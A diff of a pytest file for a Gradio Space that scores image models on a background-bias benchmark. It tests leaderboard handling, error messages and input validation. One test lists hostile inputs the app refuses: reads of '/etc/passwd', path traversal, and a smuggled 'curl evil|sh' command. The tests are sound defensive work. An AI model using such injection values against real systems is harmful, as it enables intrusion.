@@ -1,8 +1,10 @@
-"""The Space is a thin shell: its scoring function returns the library's report."""
+"""The Space is a thin shell: its scoring function checks what a visitor entered, returns
+the library's report and keeps full runs on the leaderboard."""
 
 from __future__ import annotations
 
 import importlib.util
+import inspect
 import json
 from pathlib import Path
 
@@ -19,34 +21,123 @@ def _load_app():
     return module
 
 
-def test_space_scores_with_the_library(in9_release, monkeypatch):
-    app = _load_app()
-    from hf_bgbench.tasks.evaluate import evaluate_model as real
-    from tests.in9_fixture import EXPECTED_BG_GAP, ColourRuleClassifier
+def _quiet(*args, **kwargs) -> None:
+    return None
 
-    monkeypatch.setattr(
-        app,
-        "evaluate_model",
-        lambda model_id, **kw: real(ColourRuleClassifier(), **kw | {"use_cache": False}),
-    )
-    report, plot, results_json = app.score(
-        "any/model",
-        str(in9_release),
-        ["mixed_same", "mixed_rand"],
-        False,
-        progress=lambda *a, **k: None,
+
+@pytest.fixture
+def space(in9_release, tmp_path, monkeypatch):
+    """The app with the synthetic IN-9 allow-listed as 'in9-local' and its own leaderboard."""
+    monkeypatch.setenv("BGBENCH_SPACE_DATASETS", f"in9=bgbench/in9,in9-local={in9_release}")
+    monkeypatch.setenv("BGBENCH_LEADERBOARD_DIR", str(tmp_path / "leaderboard"))
+    return _load_app()
+
+
+def _colour_rule(app, monkeypatch, calls=None):
+    from hf_bgbench.tasks.evaluate import evaluate_model as real
+    from tests.in9_fixture import ColourRuleClassifier
+
+    def fake(task, model_id, options):
+        if calls is not None:
+            calls.append((task, model_id, options))
+        return real(ColourRuleClassifier(), **options | {"use_cache": False})
+
+    monkeypatch.setattr(app, "execute", fake)
+
+
+def test_space_scores_with_the_library(space, in9_release, monkeypatch):
+    from tests.in9_fixture import EXPECTED_BG_GAP
+
+    calls: list = []
+    _colour_rule(space, monkeypatch, calls)
+    report, plots, results_json = space.score(
+        "any/model", "in9-local", ["mixed_same", "mixed_rand"], False, progress=_quiet
     )
     assert "BG-GAP = 22.2 points" in report
-    assert Path(plot).is_file()
+    assert plots and all(Path(p).is_file() for p in plots)
     assert json.loads(Path(results_json).read_text())["bg_gap"] == pytest.approx(EXPECTED_BG_GAP)
+    assert str(in9_release) not in report  # the server path is shown by its allow-list name
+    assert "Added to the leaderboard" in report
+    ((task, model_id, options),) = calls
+    assert options["data"] == str(in9_release) and "checkpoint" not in options
+    headers, rows = space.table(space.read_rows(space.leaderboard_dir()), published=False)
+    assert [dict(zip(headers, r, strict=True))["BG-GAP"] for r in rows] == [pytest.approx(22.22)]
 
 
-def test_space_reports_errors_to_the_user(in9_release):
+def test_space_reports_errors_to_the_user(space):
     import gradio as gr
 
-    app = _load_app()
     with pytest.raises(gr.Error, match="Pick at least one variant"):
-        app.score(
-            "tf_efficientnet_lite0", str(in9_release), [], False, progress=lambda *a, **k: None
+        space.score("tf_efficientnet_lite0", "in9-local", [], False, progress=_quiet)
+    assert isinstance(space.build_demo(), gr.Blocks)
+
+
+@pytest.mark.parametrize(
+    ("model", "dataset", "said"),
+    [
+        ("/etc/passwd", "in9-local", "paths and links are refused"),
+        ("local-dir:/srv/x", "in9-local", "paths and links are refused"),
+        ("../../x", "in9-local", "paths and links are refused"),
+        ("owner/x;curl evil|sh", "in9-local", "only letters, digits"),
+        ("owner/weights.ckpt", "in9-local", "weights file"),
+        ("tf_efficientnet_lite0", "/etc", "Pick a dataset from the list"),
+        ("tf_efficientnet_lite0", "../tests", "Pick a dataset from the list"),
+        ("tf_efficientnet_lite0", "bgbench/other", "Pick a dataset from the list"),
+    ],
+)
+def test_space_refuses_paths_before_anything_loads(space, monkeypatch, model, dataset, said):
+    import gradio as gr
+
+    def never(*args, **kwargs):
+        raise AssertionError("nothing may load for a refused input")
+
+    monkeypatch.setattr(space, "execute", never)
+    with pytest.raises(gr.Error, match="(?s)" + said.replace("(", r"\(")):
+        space.score(model, dataset, ["original"], False, progress=_quiet)
+
+
+def test_the_space_never_passes_a_checkpoint_or_remote_code(space):
+    assert "checkpoint" not in inspect.signature(space.score).parameters
+    for task in ("evaluate", "challenge", "noise", "saliency"):
+        options = space.task_options(task, ["original"], False)
+        assert not {"checkpoint", "label_map", "trust_remote_code"} & set(options)
+    challenge = space.task_options("challenge", [], False)
+    assert challenge["max_foregrounds"] == 100 and challenge["max_backgrounds"] == 200
+
+
+def test_library_errors_reach_the_visitor_in_plain_words(space, in9_release, monkeypatch):
+    import gradio as gr
+
+    def fails(task, model_id, options):
+        raise ValueError(
+            f"{options['data']} has no variant 'mixed_next'. Pass another folder with --data, "
+            "or run `bgbench download in9`."
         )
-    assert isinstance(app.build_demo(), gr.Blocks)
+
+    monkeypatch.setattr(space, "execute", fails)
+    with pytest.raises(gr.Error) as info:
+        space.score("tf_efficientnet_lite0", "in9-local", ["mixed_next"], False, progress=_quiet)
+    message = info.value.message
+    assert message.startswith("in9-local has no variant")
+    assert "--data" not in message and "bgbench download" not in message
+    assert str(in9_release) not in message and message.endswith(".")
+
+
+def test_subset_runs_are_not_ranked(space, monkeypatch):
+    from hf_bgbench.tasks.evaluate import evaluate_model as real
+    from tests.in9_fixture import ColourRuleClassifier
+
+    def capped(task, model_id, options):
+        doc = real(ColourRuleClassifier(), **options | {"use_cache": False})
+        return doc | {"max_images": 5}
+
+    monkeypatch.setattr(space, "execute", capped)
+    report, _, _ = space.score("any/model", "in9-local", ["original"], False, progress=_quiet)
+    assert "Not added to the leaderboard: it scored a seeded subset (max_images=5)" in report
+    assert space.read_rows(space.leaderboard_dir()) == []
+
+
+def test_queue_limits_concurrency(space):
+    demo = space.build_demo()
+    assert demo._queue.default_concurrency_limit == space.CONCURRENCY == 1
+    assert space.JOB_SECONDS > 0
